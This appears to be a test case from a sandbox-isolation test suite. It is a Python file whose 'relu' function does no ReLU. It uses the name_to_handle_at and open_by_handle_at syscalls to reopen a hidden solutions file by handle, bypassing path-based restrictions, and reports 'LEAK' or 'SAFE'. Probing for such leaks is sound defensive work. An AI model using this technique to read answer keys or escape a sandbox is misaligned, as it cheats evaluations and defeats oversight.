"""Opens a file by its handle, not by its path.

Attack: open_by_handle_at, with which a process that is still root needs no path at all.
Expect: no_point
Exercise: relu
Effect: leak:LEAK
"""

import ctypes
import os
import struct

LIBC = ctypes.CDLL(None, use_errno=True)
NAME_TO, OPEN_BY = (303, 304) if os.uname().machine == "x86_64" else (264, 265)
AT_FDCWD = -100


def relu(z):
    room = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0), 136)
    mount = ctypes.c_int()
    path = b"@SOLUTIONS@/chapter1/relu.py"
    if LIBC.syscall(NAME_TO, AT_FDCWD, path, room, ctypes.byref(mount), 0) != 0:
        raise RuntimeError("SAFE")
    for place in (".", os.path.dirname(__file__), "/", "/usr/lib"):
        try:
            near = os.open(place, os.O_RDONLY)
        except OSError:
            continue
        fd = LIBC.syscall(OPEN_BY, near, room, 0)
        os.close(near)
        if fd >= 0:
            raise RuntimeError("LEAK " + repr(os.read(fd, 60)))
    raise RuntimeError("SAFE")
